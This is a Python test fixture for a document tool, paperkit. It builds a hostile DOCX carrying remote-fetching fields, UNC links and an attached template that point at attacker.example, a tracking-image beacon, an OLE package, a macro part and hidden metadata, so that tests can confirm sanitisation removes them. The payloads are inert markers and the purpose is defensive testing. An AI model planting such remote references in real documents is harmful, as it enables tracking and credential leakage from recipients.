"""A DOCX template as a hostile (or careless) other organisation could send it.

Built from paperkit's own template at test time, with everything issue 20 lists added:
a remote attached template, fetching fields, a UNC hyperlink, an altChunk, an OLE
package, macros, comments with their author, tracked changes, hidden text and the
other organisation's document properties.  Each planted secret is a word the tests
look for in every part of what paperkit makes from it.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

BUILTIN = Path(__file__).resolve().parent.parent / "templates" / "base" / "document.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECRETS = ("DELETEDSECRET", "HIDDENSECRET", "attacker.example", "tracker.example", "OtherOrgLtd", "BossName",
           "LawyerName", "SECRETVAR", "CUSTOMSECRET", "COMMENTSECRET", "CHUNKSECRET", "OLESECRET", "MACROSECRET",
           "INCLUDEPICTURE", "INCLUDETEXT", "attachedTemplate", "vbaProject", "altChunk", "docVars")
KEPT = ("INSERTEDTEXT", "SHOWNPICTURETEXT", "SHOWNTEXTOFINCLUDE", "UNCLINKTEXT")
"""Text of the template that stays visible: accepted insertions, what removed fields showed."""

_PLANTED = (
    '<w:p><w:r><w:t xml:space="preserve">Before </w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://tracker.example/p.png" \\d </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>SHOWNPICTURETEXT</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\attacker.example\\\\share\\\\x.docx&quot; ">'
    '<w:r><w:t>SHOWNTEXTOFINCLUDE</w:t></w:r></w:fldSimple>'
    '<w:del w:id="1" w:author="LawyerName" w:date="2024-01-01T00:00:00Z"><w:r><w:delText>DELETEDSECRET</w:delText></w:r></w:del>'
    '<w:ins w:id="2" w:author="LawyerName" w:date="2024-01-01T00:00:00Z"><w:r><w:t>INSERTEDTEXT</w:t></w:r></w:ins>'
    '<w:r><w:rPr><w:vanish/></w:rPr><w:t>HIDDENSECRET</w:t></w:r>'
    '<w:commentRangeStart w:id="0"/><w:r><w:t xml:space="preserve"> commented </w:t></w:r><w:commentRangeEnd w:id="0"/>'
    '<w:r><w:commentReference w:id="0"/></w:r>'
    '<w:hyperlink r:id="rIdUnc"><w:r><w:t>UNCLINKTEXT</w:t></w:r></w:hyperlink>'
    '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rIdOle" ProgID="Package"/>'
    '</w:object></w:r>'
    '</w:p><w:altChunk r:id="rIdChunk"/>'
)
_RELS = (
    f'<Relationship Id="rIdUnc" Type="{R}/hyperlink" Target="file://attacker.example/share/x.docx" TargetMode="External"/>'
    f'<Relationship Id="rIdChunk" Type="{R}/aFChunk" Target="chunk.mht"/>'
    f'<Relationship Id="rIdOle" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
    f'<Relationship Id="rIdCom" Type="{R}/comments" Target="comments.xml"/>'
    f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
    f'<Relationship Id="rIdPic" Type="{R}/image" Target="http://tracker.example/beacon.png" TargetMode="External"/>'
)
_COMMENTS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:comments xmlns:w="http://schemas.openxmlformats.org'
             '/wordprocessingml/2006/main"><w:comment w:id="0" w:author="LawyerName"><w:p><w:r><w:t>COMMENTSECRET: do not '
             'sign this</w:t></w:r></w:p></w:comment></w:comments>')
_APP = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats.org/'
        'officeDocument/2006/extended-properties"><Application>Microsoft Office Word</Application>'
        '<Template>\\\\attacker.example\\share\\Normal.dotm</Template><Company>OtherOrgLtd</Company>'
        '<Manager>BossName</Manager></Properties>')
_CUSTOM = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats.org/'
           'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/'
           'docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Client">'
           '<vt:lpwstr>CUSTOMSECRET</vt:lpwstr></property></Properties>')
_OVERRIDES = (
    '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
    '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>'
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/chunk.mht" ContentType="message/rfc822"/>'
    '<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
)


def hostile_docx(main_type: str | None = None) -> bytes:
    """paperkit's base template with every planted leak (``main_type`` overrides the main part's type)."""
    source = zipfile.ZipFile(BUILTIN)
    parts = {name: source.read(name) for name in source.namelist()}
    document = parts["word/document.xml"].decode()
    parts["word/document.xml"] = document.replace("<w:body>", "<w:body>" + _PLANTED, 1).encode()
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", _RELS + "</Relationships>").encode()
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = settings.replace(
        "<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:docVars><w:docVar w:name="v" w:val="SECRETVAR"/>'
                   '</w:docVars><w:zoom', 1).encode()
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rIdT" Type="{R}/attachedTemplate" '
        f'Target="file:///\\\\attacker.example\\share\\t.dotx" TargetMode="External"/></Relationships>').encode()
    parts["word/comments.xml"] = _COMMENTS.encode()
    parts["word/vbaProject.bin"] = b"MACROSECRET" * 10
    parts["word/chunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>CHUNKSECRET</html>"
    parts["word/embeddings/oleObject1.bin"] = b"OLESECRET" * 10
    parts["docProps/app.xml"] = _APP.encode()
    parts["docProps/custom.xml"] = _CUSTOM.encode()
    package_rels = parts["_rels/.rels"].decode()
    parts["_rels/.rels"] = package_rels.replace(
        "</Relationships>", '<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                            'relationships/custom-properties" Target="docProps/custom.xml"/></Relationships>').encode()
    types = parts["[Content_Types].xml"].decode().replace("</Types>", _OVERRIDES + "</Types>")
    if main_type:
        types = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                              main_type)
    parts["[Content_Types].xml"] = types.encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, blob in parts.items():
            out.writestr(name, blob)
    return buffer.getvalue()


def every_part(data: bytes) -> str:
    """All the parts of a zip as one text (for looking for planted words)."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    return "\n".join(f"{name}\n" + archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
